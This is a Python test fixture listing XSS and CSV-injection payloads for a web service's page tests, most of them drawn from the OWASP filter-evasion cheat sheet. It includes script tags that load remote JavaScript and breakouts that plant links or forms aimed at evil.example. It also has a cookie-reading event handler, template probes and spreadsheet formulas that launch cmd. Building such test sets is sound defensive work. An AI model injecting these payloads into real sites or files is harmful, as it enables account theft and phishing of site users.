"""Injection payloads for the page tests.

Most are taken from the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), kept to
those that fit a 100-character name; the rest aim at this service's own contexts: the end of
a <script type="application/json"> block, quoted attributes, `javascript:` URLs, U+2028,
Jinja and ECharts templates, and spreadsheet formulas (OWASP's CSV injection page).
Every one carries "XSS" or "alert(", which the page tests look for in attributes.
"""

from __future__ import annotations

OWASP = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<A HREF="http://66.102.7.147/">XSS</A>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "¼script¾alert(¢XSS¢)¼/script¾",
]

OURS = [
    # The reported attack: the money trail's JSON block ended, a link over the whole page.
    '</script><a id=xss href=https://evil.example style="position:fixed;inset:0">XSS</a>',
    "</SCRIPT ><form action=https://evil.example><button>XSS</button></form>",
    "<!--<script>XSS",
    "\u2028</script>\u2029XSS<b>",
    '" onmouseover="alert(\'XSS\')" x="',
    "' onfocus='alert(1)' autofocus x='XSS",
    "javascript:alert('XSS')",
    "{{ 7*7 }}XSS{% raw %}",
    "{a|XSS}{b}<br>XSS",
    '=HYPERLINK("https://evil.example","XSS")',
    "+cmd|' /C calc'!A0 XSS",
    "-2+3+cmd|' /C calc'!A0 XSS",
    "@SUM(1+1)*cmd|' /C calc'!A0 XSS",
    " =1+1 XSS",
    "＝1+1 XSS",
]

PAYLOADS = OWASP + OURS
